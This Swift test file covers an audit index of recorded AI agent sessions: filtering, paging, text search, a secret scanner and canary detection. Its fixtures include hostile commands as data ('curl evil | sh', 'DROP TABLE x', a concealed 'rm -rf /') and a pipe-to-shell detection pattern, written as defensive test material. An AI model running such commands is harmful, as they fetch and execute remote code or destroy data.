import Platform
import SessionLog
import Testing
import Text

@testable import AuditStore

@Suite struct ListTests {
  /// Five sessions of three agents, one with a blocked action and one with a gap.
  private func store() throws -> Fixture {
    let fixture = try Fixture()
    try fixture.record(.init(agent: "deploy-1", principal: nil, resource: "db"))
    try fixture.record(
      .init(agent: "deploy-2", resource: "api", kind: "mcp"), command: "curl evil | sh")
    try fixture.record(.init(agent: "audit", resource: "db"), lines: [Fixture.gap(250_000)])
    try fixture.record(
      .init(agent: "deploy-1", principal: "bob"), command: "DROP TABLE x",
      lines: [Fixture.blocked(250_000)])
    try fixture.record(.init(agent: "deploy-1", principal: "bob", resource: "a[b]"))
    return fixture
  }

  private func rows(
    _ list: RecordList, _ fixture: Fixture, _ change: (inout ListRequest) -> Void = { _ in }
  ) throws -> ListPage {
    var request = ListRequest()
    change(&request)
    let fixed = request
    return try AuditIndex.using(fixture.store, now: fixture.clock.wall(), patience: 50) {
      (index, _) throws(AuditFailure) in try index.page(list, fixed)
    }
  }

  private func column(_ name: String, _ list: RecordList, _ page: ListPage) -> [String] {
    guard let place = list.columns.firstIndex(where: { $0.name == name }) else { return [] }
    return page.rows.map { row in
      switch row[place] {
      case .text(let text): text
      case .integer(let number): String(number)
      default: "-"
      }
    }
  }

  private static func filter(_ pairs: [(FilterField, [String])]) -> RecordFilter {
    var filter = RecordFilter()
    for (field, values) in pairs { filter[field] = values.map { .init($0) } }
    return filter
  }

  @Test(
    arguments: [
      ([(.agent, ["deploy-1"])], ["deploy-1", "deploy-1", "deploy-1"]),
      ([(.agent, ["deploy-1", "audit"])], ["deploy-1", "deploy-1", "audit", "deploy-1"]),
      ([(.agent, ["deploy-*"]), (.kind, ["mcp"])], ["deploy-2"]),
      ([(.agent, ["!deploy-*"])], ["audit"]),
      ([(.principal, ["!bob"])], ["audit", "deploy-2", "deploy-1"]),
      ([(.principal, ["bob"])], ["deploy-1", "deploy-1"]),
      ([(.resource, ["a[b]"])], ["deploy-1"]), ([(.resource, ["a[*"])], ["deploy-1"]),
      ([(.has, ["gap"])], ["audit"]), ([(.has, ["block"])], ["deploy-1"]),
      ([(.has, ["gap", "block"])], ["deploy-1", "audit"]),
      ([(.outcome, ["block"])], ["deploy-1"]), ([(.type, ["policy.*"])], ["deploy-1"]),
      ([(.type, ["recorder.gap"]), (.outcome, ["block"])], []),
      ([(.agent, ["nobody"])], []), ([(.agent, ["DEPLOY-1"])], []),
      ([(.env, ["prod"]), (.agent, ["audit"])], ["audit"]),
    ] as [([(FilterField, [String])], [String])])
  func `filters narrow sessions`(_ given: ([(FilterField, [String])], [String])) throws {
    let filter = Self.filter(given.0)
    let fixture = try store()
    let page = try rows(.sessions, fixture) { $0.filter = filter }
    #expect(column("agent", .sessions, page) == given.1)
    let count = try AuditIndex.using(fixture.store, now: 0, patience: 50) {
      (index, _) throws(AuditFailure) in try index.count(.sessions, filter)
    }
    #expect(count == Int64(given.1.count))
  }

  @Test func `hostile values are only values`() throws {
    let fixture = try store()
    for text in hostile where !text.isEmpty {
      for field in FilterField.allCases {
        let page = try rows(.sessions, fixture) { $0.filter[field] = [.init(text)] }
        #expect(page.rows.isEmpty || text.hasPrefix("!"), "\(field) \(text.debugDescription)")
      }
    }
  }

  @Test(arguments: [
    RecordList.sessions, .events, .agents, .principals, .resources, .decisions, .approvals,
    .masking, .findings,
  ])
  func `a list read page by page is the list read at once, either way`(_ list: RecordList) throws {
    let fixture = try store()
    for isReversed in [false, true] {
      let whole = try rows(list, fixture) { $0.isReversed = isReversed }
      #expect(!whole.isCut)
      var pages: [[SQLValue]] = []
      var after: Cursor?
      while true {
        let page = try rows(list, fixture) {
          ($0.limit, $0.after, $0.isReversed) = (2, after, isReversed)
        }
        pages += page.rows
        // The cursor stands the way through its text.
        after = try page.cursor.map { try #require(Cursor($0.text)) }
        if !page.isCut { break }
      }
      #expect(pages == whole.rows)
    }
  }

  @Test func `a cursor of another question is refused, and so is any other text`() throws {
    let fixture = try store()
    let page = try rows(.sessions, fixture) { $0.limit = 1 }
    let cursor = try #require(page.cursor)
    for change: (inout ListRequest) -> Void in [
      { $0.filter[.agent] = [.init("x")] }, { $0.isReversed = true }, { $0.filter.since = 5 },
      { $0.filter[.agent] = [.init("!x")] },
    ] {
      let failure = #expect(throws: AuditFailure.self) {
        try rows(.sessions, fixture) {
          change(&$0)
          $0.after = cursor
        }
      }
      #expect(failure?.kind == .refusedCursor)
    }
    let failure = #expect(throws: AuditFailure.self) {
      try rows(.agents, fixture) { $0.after = cursor }
    }
    #expect(failure?.kind == .refusedCursor)
    for text in ["", "x", String(cursor.text.dropLast()), cursor.text + "A", "\u{1B}[31m"] {
      #expect(Cursor(text) == nil)
    }
  }

  @Test func `times are half-open`() throws {
    let fixture = try store()
    let all = try rows(.sessions, fixture)
    let starts = column("start", .sessions, all).compactMap { Int64($0) }
    let page = try rows(.sessions, fixture) {
      ($0.filter.since, $0.filter.until) = (starts[3], starts[1])
    }
    #expect(column("start", .sessions, page).compactMap { Int64($0) } == [starts[2], starts[3]])
  }

  @Test func `values that a field does not take are told`() {
    for (field, value): (FilterField, String) in [
      (.has, "everything"), (.status, "fine"), (.severity, "very"), (.severity, ">="),
    ] {
      #expect(throws: FilterFailure.self) {
        try Self.filter([(field, [value])]).check(hasStates: false)
      }
    }
    for (field, value): (FilterField, String) in [
      (.has, "!gap"), (.status, "failure"), (.severity, ">=3"), (.severity, "<high"),
      (.severity, "4"),
    ] {
      #expect(throws: Never.self) {
        try Self.filter([(field, [value])]).check(hasStates: false)
      }
    }
  }

  // MARK: search

  private func search(
    _ pattern: SearchPattern, _ fixture: Fixture, _ change: (inout SearchRequest) -> Void = { _ in }
  ) throws -> SearchPage {
    var request = SearchRequest(pattern)
    change(&request)
    let fixed = request
    return try AuditIndex.using(fixture.store, now: fixture.clock.wall(), patience: 50) {
      (index, _) throws(AuditFailure) in try index.search(fixed)
    }
  }

  @Test func `text is found in commands, with its place`() throws {
    let fixture = try store()
    let page = try search(try SearchPattern(plain: "drop table"), fixture)
    #expect(page.hits.map(\.match) == ["DROP TABLE"])
    #expect(page.hits.first?.type == "terminal.command")
    #expect(page.hits.first?.excerpt == "DROP TABLE x")
    #expect(page.hits.first?.agent == "deploy-1")
    #expect(try search(try SearchPattern(plain: "Drop table"), fixture).hits.isEmpty)
    #expect(try search(try SearchPattern(plain: "ls"), fixture).hits.count == 3)
    let pipes = try search(try SearchPattern(expression: "curl .*\\| *(ba)?sh"), fixture)
    #expect(pipes.hits.map(\.agent) == ["deploy-2"])
    #expect(try search(try SearchPattern(plain: "%_"), fixture).hits.isEmpty)
    let other = try search(try SearchPattern(plain: "ls -l"), fixture) {
      $0.filter[.agent] = [.init("audit")]
    }
    #expect(other.hits.map(\.agent) == ["audit"])
  }

  @Test func `a shown line has the time of the line that showed it`() throws {
    let fixture = try Fixture()
    var writer = try fixture.begin()
    let begin = fixture.clock.wall()
    for word in ["first-word", "second-word", "third-word"] {
      fixture.clock.advance(3_000_000)
      // All in one batch: its time would be the last one's.
      _ = try writer.append(Fixture.output(word + "\r\n", writer.now()))
    }
    _ = try writer.close(lines: [Fixture.end(0, writer.now())])
    let hits = try AuditIndex.using(fixture.store, now: 0, text: true) {
      (index, _) throws(AuditFailure) in
      var request = SearchRequest(try SearchPattern.words)
      request.isReversed = true
      return try index.search(request).hits
    }
    #expect(hits.map(\.excerpt) == ["first-word", "second-word", "third-word"])
    #expect(hits.map { $0.time - begin } == [3_000_000, 6_000_000, 9_000_000])
    #expect(hits.allSatisfy { $0.isShown })
    // The period that is asked for is held against the same time.
    var request = SearchRequest(try SearchPattern.words)
    (request.filter.since, request.filter.until) = (begin + 5_000_000, begin + 9_000_000)
    let between = request
    let found = try AuditIndex.using(fixture.store, now: 0, text: true) {
      (index, _) throws(AuditFailure) in try index.search(between).hits
    }
    #expect(found.map(\.excerpt) == ["second-word"])
  }

  @Test func `sessions are found by what they have, under every name of it`() throws {
    let fixture = try Fixture()
    let plain = try fixture.record(.init(agent: "plain"))
    let sly = try fixture.record(
      .init(agent: "sly"), lines: [Fixture.output("\u{1B}[8mrm -rf /\u{1B}[0m\r\n", 250_000)])
    var vote = LineBuilder(time: 250_000, type: "approval.request")
    vote.add("approval", "a-1")
    let asked = try fixture.record(.init(agent: "asked"), lines: [vote.finish()])
    func found(_ trait: String) throws -> [String] {
      try AuditIndex.using(fixture.store, now: 0, text: true) { (index, _) throws(AuditFailure) in
        var request = ListRequest()
        request.filter = Self.filter([(.has, [trait])])
        return column("id", .sessions, try index.page(.sessions, request))
      }
    }
    #expect(try found("hidden") == [sly.text])
    #expect(try found("!hidden") == [asked.text, plain.text])
    #expect(try found("approval") == [asked.text])
    for (name, trait) in [("denial", "block"), ("masking", "mask"), ("damaged", "damage")] {
      #expect(try found(name) == found(trait))
      #expect(throws: Never.self) { try Self.filter([(.has, [name])]).check(hasStates: false) }
    }
  }

  @Test func `hits read page by page are the hits read at once`() throws {
    let fixture = try store()
    let pattern = try SearchPattern(expression: "[a-z]")
    let whole = try search(pattern, fixture).hits
    #expect(whole.count >= 5)
    var pages: [SearchHit] = []
    var after: Cursor?
    while true {
      let page = try search(pattern, fixture) { ($0.limit, $0.after) = (2, after) }
      pages += page.hits
      after = page.cursor
      if !page.isCut { break }
    }
    #expect(pages == whole)
    #expect(try search(pattern, fixture) { $0.isReversed = true }.hits == whole.reversed())
  }

  @Test func `verified hits are those that the bytes hold`() throws {
    let fixture = try store()
    let pattern = try SearchPattern(plain: "drop table")
    let hits = try search(pattern, fixture).hits
    let trust = Trust(key: fixture.store.verifierKey, source: .ownState)
    func verified() throws -> [SearchHit] {
      let log = try LogView(fixture.store, trust: trust, state: fixture.state)
      return try HitVerifier(store: fixture.store, log: log, pattern: pattern).holding(hits)
    }
    #expect(try verified() == hits)
    let id = try #require(SessionID(hits[0].session))
    try fixture.flip(fixture.store.sessionPath(of: id), at: 300)
    #expect(try verified().isEmpty)
  }
}

@Suite struct ResidualScanTests {
  private func kinds(_ text: String) -> [ResidualKind] {
    ResidualScan.hits(in: Array(text.utf8)).map(\.kind)
  }

  @Test(
    arguments: [
      ("card 4111 1111 1111 1111.", [.card]), ("4111-1111-1111-1111", [.card]),
      ("x=4111111111111111;", [.card]), ("378282246310005", [.card]),
      ("3782 822463 10005", [.card]),
      ("5555555555554444 and 6011111111111117", [.card, .card]), ("3530111333300000", [.card]),
      ("ssn 219-09-9999", [.ssn]), ("-----BEGIN RSA PRIVATE KEY-----\nMII", [.privateKey]),
      ("-----BEGIN OPENSSH PRIVATE KEY-----", [.privateKey]),
      ("-----BEGIN PRIVATE KEY-----", [.privateKey]),
      ("key AKIAIOSFODNN7EXAMPLE here", [.cloudKey]),
      ("ghp_0123456789abcdefghijklmnopqrstuvwxyzAB", [.cloudKey]),
      (
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        [.jwt]
      ),
      // What only looks like it.
      ("4111 1111 1111 1112", []), ("41111111111111111", []), ("a4111111111111111", []),
      ("4111111111111111a", []), ("4444444444444444", []), ("1234567812345670", []),
      ("1795357307123456", []), ("4111 1111-1111 1111", []), ("4111 11 11 1111 1111 11", []),
      ("000-12-3456", []), ("666-12-3456", []), ("912-12-3456", []), ("123-00-4567", []),
      ("123-45-0000", []), ("1219-09-9999", []), ("219-09-99991", []), ("2026-219-09-9999", []),
      ("-----BEGIN PUBLIC KEY-----", []), ("-----BEGIN CERTIFICATE-----", []),
      ("AKIAIOSFODNN7EXAMPL", []), ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIi", []), ("ghp_short", []),
      ("4111 **** **** 1111", []), ("", []),
    ] as [(String, [ResidualKind])])
  func `secrets are told from what only looks like them`(_ given: (String, [ResidualKind])) {
    #expect(kinds(given.0) == given.1, "\(given.0)")
  }

  @Test func `any bytes can be scanned`() {
    var seed: UInt64 = 7
    for _ in 0..<200 {
      let bytes = (0..<300).map { _ -> UInt8 in
        seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
        let alphabet = Array("0123456789-eyJ.AKIAghp_ BEGINPRIVATEKEY\u{0}é".utf8)
        return alphabet[Int(seed >> 33) % alphabet.count]
      }
      for hit in ResidualScan.hits(in: bytes) {
        #expect(hit.range.lowerBound >= 0 && hit.range.upperBound <= bytes.count)
      }
    }
  }
}

@Suite struct CanaryTests {
  @Test(
    arguments: [
      ("call 555-0100 22 now", CanaryBook.Form.digits, ["555010022"]),
      ("A.B@Example.com,x", .email, ["a.b@example.com"]), ("two@at@signs", .email, []),
      ("key=\"tok-17\" (x)", .word, ["key=", "tok-17", "x"]), ("1 2  3", .digits, ["12", "3"]),
      ("7-", .digits, ["7"]),
    ] as [(String, CanaryBook.Form, [String])])
  func `candidates are cut as the page says`(_ given: (String, CanaryBook.Form, [String])) {
    let found = CanaryBook.candidates(in: Array(given.0.utf8), given.1)
    #expect(found.map { String(decoding: $0, as: UTF8.self) } == given.2)
  }

  @Test func `a canary is found by its digest alone, in any dress`() throws {
    let fixture = try Fixture()
    var book = try CanaryBook(fixture.state, fixture.store)
    try book.add(value: "5500 0055 1234", uid: "phone")
    try book.add(value: "Canary@Example.com", uid: "mail")
    try book.add(value: "tok_secret", uid: "token")
    #expect(try book.names(in: Array("x 550000551234 y".utf8)) == ["phone"])
    #expect(try book.names(in: Array("5500-0055-1234".utf8)) == ["phone"])
    #expect(try book.names(in: Array("<canary@example.COM>".utf8)) == ["mail"])
    #expect(try book.names(in: Array("a \"tok_secret\"".utf8)) == ["token"])
    #expect(try book.names(in: Array("tok_secretx 5500005512345".utf8)).isEmpty)
    #expect(!String(describing: book.canaries).contains("secret"))
  }

  @Test func `seen in a recording it is a finding`() throws {
    let fixture = try Fixture()
    try fixture.record(command: "psql -c 'select 4111 1111 1111 1111'")
    try fixture.record(command: "echo tok_secret")
    var book = try CanaryBook(fixture.state, fixture.store)
    try book.add(value: "tok_secret", uid: "token")
    let canaries = book
    let run = try AuditIndex.using(fixture.store, now: fixture.clock.wall(), patience: 50) {
      (index, _) throws(AuditFailure) in
      try index.detect(
        Detection.standard.filter { ["R1", "C1"].contains($0.id) }, now: fixture.clock.wall(),
        window: 0, canaries: canaries)
    }
    #expect(run.fresh.map(\.rule).sorted() == ["C1", "R1"])
    #expect(run.fresh.first { $0.rule == "R1" }?.detail == "1 card")
    #expect(run.fresh.first { $0.rule == "C1" }?.detail == "canary token")
    for finding in run.fresh { #expect(!finding.detail.contains("4111")) }
  }
}

extension SearchPattern {
  /// One of the words of a test.
  fileprivate static var words: SearchPattern {
    get throws(AuditFailure) {
      do { return try SearchPattern(expression: "(first|second|third)-word") } catch {
        throw AuditFailure(.badQuery, "\(error)", advice: "")
      }
    }
  }
}
